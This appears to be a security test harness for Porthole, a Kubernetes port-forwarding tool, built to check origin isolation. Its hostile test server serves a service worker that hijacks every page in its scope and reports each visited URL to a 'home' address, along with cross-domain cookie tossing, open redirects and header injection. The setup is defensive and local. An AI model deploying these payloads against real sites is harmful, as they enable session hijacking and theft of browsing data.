import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import type { RequestListener } from 'node:http'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { chromium, type Browser } from 'playwright/test'
import { startDemoCluster } from '../../electron/demo/demo-cluster.ts'
import { originHost } from '../../shared/origin.ts'
import { ClusterUnavailable } from '../cluster/cluster-unavailable.ts'
import { debianProgram } from '../cluster/debian-package.ts'
import { startHeadless } from '../conformance/serving-process.ts'
import { type Recorder, startRecorder } from './recorder.ts'

/** Somebody to attack, somebody who attacks from everywhere, and Porthole between them. */
export interface AttackSite {
  /** The Service `victim`. */
  readonly victim: Recorder
  /** The Service `evil`, and `tricky`: the same program on a port that is called https and speaks HTTP. */
  readonly evil: Recorder
  /** A site elsewhere. */
  readonly foreign: Recorder
  /** A server that nothing guards: what does not arrive there proves nothing. */
  readonly open: Recorder
  readonly kubeconfig: string
  /** Porthole's, without a window. */
  readonly port: number
  /** `https://127.0.0.1:PORT` of the API server. */
  readonly server: string
  close(): Promise<void>
}

export async function startAttackSite(): Promise<AttackSite> {
  const cluster = await startDemoCluster({ workloads: false })
  const victim = await startRecorder()
  const foreign = await startRecorder(attackerAnswers)
  const open = await startRecorder(attackerAnswers)
  const evil = await startRecorder(attackerAnswers)
  const add = (name: string, port: { name: string; port: number; localPort: number }) =>
    cluster.createService({ namespace: 'default', name, ports: [port] })
  add('victim', { name: 'http', port: 80, localPort: victim.port })
  add('evil', { name: 'http', port: 80, localPort: evil.port })
  add('tricky', { name: 'https', port: 443, localPort: evil.port })
  const folder = await mkdtemp(path.join(tmpdir(), 'porthole-attacks-'))
  const kubeconfig = path.join(folder, 'config')
  await writeFile(kubeconfig, cluster.kubeconfig)
  const porthole = startHeadless(['--kubeconfig', kubeconfig, '--port', '0'])
  const port = await porthole.port()
  await porthole.line(/^Connected to /)
  return {
    victim,
    evil,
    foreign,
    open,
    kubeconfig,
    port,
    server: cluster.server,
    async close() {
      await porthole.stop()
      await Promise.all([cluster, victim, evil, foreign, open].map((one) => one.close()))
      await rm(folder, { recursive: true })
    },
  }
}

/** Debian's; undefined where there is none. */
export async function startChromium(): Promise<Browser | undefined> {
  try {
    const executablePath = await debianProgram('chromium', '/usr/bin/chromium')
    const args = [
      '--host-resolver-rules=MAP evil.example 127.0.0.1',
      '--disable-features=BlockInsecurePrivateNetworkRequests',
    ]
    return await chromium.launch({ executablePath, args })
  } catch (error) {
    if (!(error instanceof ClusterUnavailable)) throw error
    process.stderr.write(`Skipped in Chromium: ${error.message}\n`)
    return undefined
  }
}

/** Takes over every page of its scope, and tells its home what it saw. */
const serviceWorker = `
const home = new URL(location.href).searchParams.get('home')
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  fetch(home + '?saw=' + encodeURIComponent(event.request.url), { mode: 'no-cors' }).catch(() => undefined)
  event.respondWith(new Response('<title>hijacked</title>', { headers: { 'content-type': 'text/html' } }))
})`

/** The host of a Service's own origin, without the listener's port. */
export function hostOf(service: string): string {
  return originHost({ cluster: 'demo', namespace: 'default', service, port: '' })
}

/** Every domain for which the hostile Service would like to set a cookie: those above either, and of the short names. */
export const cookieDomains: readonly string[] = [
  ...new Set(['evil', 'victim'].flatMap((name) => [hostOf(name), `${name}.default.demo.localhost`].flatMap(parents))),
]

function parents(host: string): string[] {
  const labels = host.split('.')
  return labels.map((_, at) => labels.slice(at).join('.'))
}

/** What a hostile application serves besides pages. */
function attackerAnswers(
  { url = '' }: Parameters<RequestListener>[0],
  response: Parameters<RequestListener>[1],
): boolean {
  // A target of two slashes is a path here, and not the name of a host.
  const { pathname, searchParams } = new URL(url.startsWith('/') ? `http://evil${url}` : 'http://evil')
  if (pathname.endsWith('/redirect')) {
    const code = Number(searchParams.get('code'))
    response.writeHead(code, { location: searchParams.get('to') ?? '' }).end()
  } else if (pathname === '/cookies') {
    response.setHeader(
      'set-cookie',
      cookieDomains.map((domain, at) => `tossed${at}=1; Domain=${domain}; Path=/`),
    )
    response.end()
  } else if (pathname === '/answer') {
    response.setHeader(searchParams.get('name') ?? '', searchParams.get('value') ?? '')
    response.setHeader('content-type', 'text/html').end('<title>page</title><img src="/image">')
  } else if (pathname.endsWith('/worker.js')) {
    response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }).end(serviceWorker)
  } else return false
  return true
}
